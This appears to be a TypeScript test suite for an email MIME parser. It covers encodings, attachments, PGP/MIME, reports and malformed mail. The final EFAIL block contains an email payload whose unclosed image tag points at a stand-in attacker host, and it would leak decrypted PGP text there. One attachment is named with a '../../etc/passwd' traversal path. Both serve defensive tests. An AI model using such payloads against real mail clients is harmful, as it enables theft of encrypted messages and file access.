import { describe, expect, it } from 'vitest';
import { parseMail } from './parse.ts';
import type { ParsedMail } from './types.ts';

/** A test message written with LF, sent as CRLF like IMAP does. */
const crlf = (s: string): Uint8Array => new TextEncoder().encode(s.replace(/\r?\n/g, '\r\n'));

async function parsed(raw: Uint8Array): Promise<ParsedMail> {
  const r = await parseMail(raw);
  if (!r.ok) throw new Error(`expected ok, got: ${r.reason}`);
  return r.mail;
}

const HEAD = `From: Ann <ann@example.com>
To: bob@example.org
Subject: test
Message-ID: <m1@example.com>
Date: Mon, 1 Jan 2024 10:00:00 +0100
MIME-Version: 1.0
`;

describe('parseMail', () => {
  it('reads a multipart/alternative mail: text, html, headers', async () => {
    const mail = await parsed(crlf(`${HEAD}Content-Type: multipart/alternative; boundary="b1"

This is a multi-part message.
--b1
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

Hello =C3=A4 and a soft=
 break
--b1
Content-Type: text/html; charset=utf-8

<p>Hello &auml;</p>
--b1--
`));
    expect(mail.contentType).toBe('multipart/alternative');
    expect(mail.text).toBe('Hello ä and a soft break\n');
    expect(mail.html).toBe('<p>Hello &auml;</p>\n');
    expect(mail.attachments).toEqual([]);
    expect(mail.messageId).toBe('m1@example.com');
    expect(mail.from).toEqual({ address: 'ann@example.com', name: 'Ann' });
    expect(mail.to).toEqual([{ address: 'bob@example.org', name: '' }]);
    expect(mail.date).toBe(Date.UTC(2024, 0, 1, 9, 0, 0));
    expect(mail.headers.map((h) => h.name)).toEqual(['from', 'to', 'subject', 'message-id', 'date', 'mime-version', 'content-type']);
    expect(mail.pgpEncrypted).toBeNull();
    expect(mail.isReport).toBe(false);
  });

  it('gives attachments ids in document order, decoded names, sizes and content', async () => {
    const pdf = Buffer.from('%PDF-1.4 fake pdf bytes \x00\x01\x02\xff', 'latin1');
    const mail = await parsed(crlf(`${HEAD}Content-Type: multipart/mixed; boundary=outer

--outer
Content-Type: text/plain

See the files.
--outer
Content-Type: application/pdf
Content-Disposition: attachment; filename*=utf-8''Rechnung%20M%C3%A4rz.pdf
Content-Transfer-Encoding: base64

${pdf.toString('base64')}
--outer
Content-Type: image/png; name="../../etc/passwd"
Content-Disposition: inline
Content-ID: <img1@example.com>
Content-Transfer-Encoding: base64

iVBORw0KGgo=
--outer
Content-Type: application/octet-stream
Content-Transfer-Encoding: base64

AAECAw==
--outer
Content-Type: application/zip
Content-Disposition: attachment; filename="=?utf-8?B?w6RyY2hpdi56aXA=?="
Content-Transfer-Encoding: base64

UEsDBA==
--outer--
`));
    expect(mail.text).toBe('See the files.\n');
    expect(mail.html).toBeNull();
    expect(mail.attachments.map((a) => [a.id, a.filename, a.mimeType, a.size, a.contentId, a.inline])).toEqual([
      ['1', 'Rechnung März.pdf', 'application/pdf', pdf.length, null, false],
      ['2', 'passwd', 'image/png', 8, 'img1@example.com', true],
      ['3', 'attachment-3.bin', 'application/octet-stream', 4, null, false],
      ['4', 'ärchiv.zip', 'application/zip', 4, null, false],
    ]);
    expect(Buffer.from(mail.attachments[0]!.content).equals(pdf)).toBe(true);
    expect([...mail.attachments[2]!.content]).toEqual([0, 1, 2, 3]);
  });

  it('decodes encoded-word headers, groups and garbage addresses', async () => {
    const mail = await parsed(crlf(`From: =?iso-8859-1?q?J=F6rg_M=FCller?= <Joerg@Example.DE>
To: Friends: a@x.com, "B. B." <b@y.com>;, undisclosed-recipients:;
Cc: not an address, =?utf-8?B?w4lsb2TDqWU=?= <elodie@z.fr>, <>
Reply-To: list@lists.example
Subject: =?utf-8?B?8J+Ygg==?= =?utf-8?q?caf=C3=A9?=
 and more
Message-ID: <m2@example.com>

body
`));
    expect(mail.from).toEqual({ address: 'joerg@example.de', name: 'Jörg Müller' });
    expect(mail.to).toEqual([{ address: 'a@x.com', name: '' }, { address: 'b@y.com', name: 'B. B.' }]);
    expect(mail.cc).toEqual([{ address: 'elodie@z.fr', name: 'Élodée' }]);
    expect(mail.replyTo).toEqual([{ address: 'list@lists.example', name: '' }]);
    expect(mail.subject).toBe('😂café and more');
    expect(mail.headers.find((h) => h.name === 'subject')?.value).toBe('=?utf-8?B?8J+Ygg==?= =?utf-8?q?caf=C3=A9?= and more');
    expect(mail.contentType).toBe('text/plain');
    expect(mail.text).toBe('body\n');
  });

  it('decodes format=flowed per RFC 3676, quote depth and DelSp included', async () => {
    const mail = await parsed(crlf(`${HEAD}Content-Type: text/plain; charset=utf-8; format=flowed; delsp=yes

This is a long para=
graph that wraps.
 >Stuffed line.
On Mon, Ann wrote:
> Quoted text that was  
> wrapped by Thunderbird.
>> Deeper 
> shallower
-- 
Ann
`.replace('para=\n', 'para \n')));
    expect(mail.text).toBe(
      'This is a long paragraph that wraps.\n>Stuffed line.\nOn Mon, Ann wrote:\n> Quoted text that was wrapped by Thunderbird.\n>> Deeper\n> shallower\n-- \nAnn\n',
    );
  });

  it('keeps the wrapping space of flowed text without DelSp', async () => {
    const mail = await parsed(crlf(`${HEAD}Content-Type: text/plain; format=flowed

one two 
three
`));
    expect(mail.text).toBe('one two three\n');
  });

  it('returns the armored payload of a top-level PGP/MIME message and nothing else', async () => {
    const armor = '-----BEGIN PGP MESSAGE-----\n\nhQEMA1234567890abcdef\n=AbCd\n-----END PGP MESSAGE-----';
    const mail = await parsed(crlf(`${HEAD}Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="enc"

This is an OpenPGP/MIME encrypted message (RFC 4880 and 3156)
--enc
Content-Type: application/pgp-encrypted
Content-Description: PGP/MIME version identification

Version: 1

--enc
Content-Type: application/octet-stream; name="encrypted.asc"
Content-Disposition: inline; filename="encrypted.asc"

${armor}

--enc--
`));
    expect(mail.contentType).toBe('multipart/encrypted');
    // postal-mime hands 7bit/8bit bodies back with LF line ends.
    expect(mail.pgpEncrypted).toBe(`${armor}\n\n`);
    expect(mail.text).toBeNull();
    expect(mail.html).toBeNull();
    expect(mail.attachments).toEqual([]);
  });

  it('flags multipart/report and keeps the report parts as attachments', async () => {
    const mail = await parsed(crlf(`From: MAILER-DAEMON@example.com
To: ann@example.com
Subject: Undelivered Mail Returned to Sender
Content-Type: multipart/report; report-type=delivery-status; boundary="r"

--r
Content-Type: text/plain

The mail system could not deliver your message.
--r
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.example.com
Final-Recipient: rfc822; nobody@example.org
Action: failed
Status: 5.1.1
--r
Content-Type: text/rfc822-headers

From: ann@example.com
Subject: hello
--r--
`));
    expect(mail.isReport).toBe(true);
    expect(mail.reportType).toBe('delivery-status');
    expect(mail.text).toBe('The mail system could not deliver your message.\n');
    expect(mail.attachments.map((a) => [a.filename, a.mimeType])).toEqual([
      ['attachment-1.txt', 'message/delivery-status'],
      ['attachment-2.txt', 'text/rfc822-headers'],
    ]);
    expect(new TextDecoder().decode(mail.attachments[0]!.content)).toContain('Status: 5.1.1');
  });

  it('keeps a forwarded message/rfc822 part as an .eml attachment (never parsed inline)', async () => {
    const mail = await parsed(crlf(`${HEAD}Content-Type: multipart/mixed; boundary=m

--m
Content-Type: text/plain

FYI
--m
Content-Type: message/rfc822

From: eve@example.net
Subject: inner
Content-Type: text/html

<b>inner html</b>
--m--
`));
    expect(mail.text).toBe('FYI\n');
    expect(mail.html).toBeNull();
    expect(mail.attachments).toHaveLength(1);
    expect(mail.attachments[0]).toMatchObject({ id: '1', filename: 'attachment-1.eml', mimeType: 'message/rfc822', inline: false });
    expect(new TextDecoder().decode(mail.attachments[0]!.content)).toContain('<b>inner html</b>');
  });

  it('marks a Content-ID image of multipart/related inline, and keeps later HTML parts as files (Apple Mail)', async () => {
    const mail = await parsed(crlf(`${HEAD}Content-Type: multipart/alternative; boundary=alt

--alt
Content-Type: text/plain

Before the file. After the file.
--alt
Content-Type: multipart/related; boundary=rel

--rel
Content-Type: multipart/mixed; boundary=mix

--mix
Content-Type: text/html

<p>Before the file. <img src="cid:logo@x"></p>
--mix
Content-Type: application/pdf; name=doc.pdf
Content-Disposition: attachment

%PDF
--mix
Content-Type: text/html

<p>After the file.</p>
--mix--
--rel
Content-Type: image/png
Content-ID: <logo@x>
Content-Transfer-Encoding: base64

iVBORw0KGgo=
--rel--
--alt--
`));
    expect(mail.text).toBe('Before the file. After the file.\n');
    expect(mail.html).toBe('<p>Before the file. <img src="cid:logo@x"></p>\n');
    expect(mail.attachments.map((a) => [a.id, a.filename, a.mimeType, a.contentId, a.inline])).toEqual([
      ['1', 'doc.pdf', 'application/pdf', null, false],
      ['2', 'attachment-2.html', 'text/html', null, false],
      ['3', 'attachment-3.png', 'image/png', 'logo@x', true],
    ]);
  });

  it('treats undeclared parts of a multipart/digest as message/rfc822', async () => {
    const mail = await parsed(crlf(`${HEAD}Content-Type: multipart/digest; boundary=d

--d

From: one@example.com
Subject: first

first body
--d

From: two@example.com
Subject: second

second body
--d--
`));
    expect(mail.text).toBeNull();
    expect(mail.attachments.map((a) => a.mimeType)).toEqual(['message/rfc822', 'message/rfc822']);
  });
});

describe('parseMail with broken mail', () => {
  it('decodes invalid base64 and quoted-printable as far as it goes', async () => {
    const mail = await parsed(crlf(`${HEAD}Content-Type: multipart/mixed; boundary=x

--x
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

SGVsbG8g!!d29y@@bGQ
--x
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

caf=C3=A9 =ZZ bad =
--x--
`));
    expect(mail.text).toBe('Hello world\ncafé =ZZ bad ');
  });

  it('falls back for an unknown charset and reads 8-bit header bytes', async () => {
    const raw = Buffer.concat([
      Buffer.from('From: =?x-unknown?q?N=E4me?= <n@example.com>\r\nSubject: Gr', 'latin1'),
      Buffer.from([0xfc, 0xdf, 0x65]),
      Buffer.from('\r\nContent-Type: text/plain; charset=x-no-such-charset\r\nContent-Transfer-Encoding: 8bit\r\n\r\nS', 'latin1'),
      Buffer.from([0xe4, 0x74, 0x7a, 0x65]),
      Buffer.from('\r\n', 'latin1'),
    ]);
    const mail = await parsed(new Uint8Array(raw));
    // Unknown charsets are read as windows-1252, the most likely legacy encoding.
    expect(mail.text).toBe('Sätze\n');
    expect(mail.subject).toBe('Grüße');
    expect(mail.from?.address).toBe('n@example.com');
  });

  it('shows the body of a multipart whose boundary is missing or never used', async () => {
    const noParam = await parsed(crlf(`${HEAD}Content-Type: multipart/mixed

just text
`));
    expect(noParam.text).toBe('just text\n');
    const unused = await parsed(crlf(`${HEAD}Content-Type: multipart/mixed; boundary=nowhere

--elsewhere
text anyway
`));
    expect(unused.text).toContain('text anyway');
  });

  it('survives a header-only message, a message without a blank line, and an empty buffer', async () => {
    expect((await parsed(crlf('Subject: only\n'))).text).toBeNull();
    expect((await parsed(crlf('Subject: x\nFrom: a@b.c'))).from?.address).toBe('a@b.c');
    const empty = await parsed(new Uint8Array(0));
    expect(empty).toMatchObject({ text: null, html: null, attachments: [], contentType: 'text/plain', subject: '' });
  });
});

describe('EFAIL', () => {
  const efail = `${HEAD}Content-Type: multipart/mixed; boundary="BOUNDARY"

--BOUNDARY
Content-Type: text/html

<img src="http://attacker.example/
--BOUNDARY
Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="ENC"

--ENC
Content-Type: application/pgp-encrypted

Version: 1
--ENC
Content-Type: application/octet-stream

-----BEGIN PGP MESSAGE-----

hQEMA-secret-ciphertext
-----END PGP MESSAGE-----
--ENC--
--BOUNDARY
Content-Type: text/html

">
--BOUNDARY--
`;

  it('uses only the first HTML part; the encrypted part and later HTML stay separate attachments', async () => {
    const mail = await parsed(crlf(efail));
    expect(mail.html).toBe('<img src="http://attacker.example/\n');
    expect(mail.html).not.toContain('PGP');
    expect(mail.html).not.toContain('">');
    expect(mail.pgpEncrypted).toBeNull();
    expect(mail.text).toBeNull();
    expect(mail.attachments.map((a) => [a.id, a.mimeType, a.inline])).toEqual([
      ['1', 'application/pgp-encrypted', false],
      ['2', 'application/octet-stream', false],
      ['3', 'text/html', false],
    ]);
    expect(new TextDecoder().decode(mail.attachments[2]!.content)).toBe('">\n');
  });

  it('never shows a text part that sits inside a nested multipart/encrypted', async () => {
    const mail = await parsed(crlf(`${HEAD}Content-Type: multipart/mixed; boundary=o

--o
Content-Type: text/plain

visible
--o
Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=e

--e
Content-Type: text/html

<b>claims to be html</b>
--e
Content-Type: text/plain

claims to be text
--e--
--o--
`));
    expect(mail.text).toBe('visible\n');
    expect(mail.html).toBeNull();
    expect(mail.attachments.map((a) => a.mimeType)).toEqual(['text/html', 'text/plain']);
  });
});
